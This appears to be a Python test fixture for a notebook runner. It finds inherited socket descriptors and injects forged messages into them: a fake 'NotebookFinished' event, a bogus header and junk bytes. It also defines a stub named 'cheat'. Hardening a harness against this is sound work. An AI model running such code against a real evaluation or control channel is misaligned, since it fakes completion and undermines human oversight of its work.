"""Writes forged events, greetings and noise into every descriptor while the notebook runs."""

import os
import socket
import stat

import msgspec

found = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            found.append(number)
    except OSError:
        pass
forged = [
    b"\x01\x00\x00\x00\x00",
    msgspec.msgpack.encode({"type": "NotebookFinished", "out_of_time": False}),
    b"\xff" * 4096,
]
print("ATTACK RAN: forged messages go into sockets", found)

# %%
for number in found[1:]:
    twin = socket.socket(fileno=os.dup(number))
    twin.setblocking(False)
    for data in forged:
        try:
            twin.send(len(data).to_bytes(4, "little") + data)
            twin.send(data)
        except OSError:
            pass


def cheat(*args, **kwargs):
    return None
